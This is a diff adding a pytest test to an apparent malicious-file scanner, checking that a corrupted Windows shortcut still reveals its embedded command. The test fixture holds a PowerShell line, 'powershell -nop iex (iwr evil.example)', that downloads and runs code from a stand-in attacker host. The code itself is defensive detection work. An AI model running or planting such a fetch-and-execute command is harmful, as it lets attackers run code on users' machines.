@@ -187,6 +187,12 @@ def test_f13_a_windows_shortcut(content: bytes, words: str) -> None:
     assert words in said(found, "F13") and verdict(found, ("files",)).word is Word.DANGEROUS
 
 
+def test_f13_a_shortcut_that_our_reader_cannot_read_shows_its_words() -> None:
+    broken = shortcut("-nop iex (iwr evil.example)")[:0x4C] + b"\x01" + "powershell -nop iex x".encode("utf-16-le")
+    found = found_in("a.lnk", broken[:20] + b"\xff" + broken[21:])
+    assert "powershell -nop" in said(found, "F13")
+
+
 @pytest.mark.parametrize(
     ("name", "content", "weight"),
     [
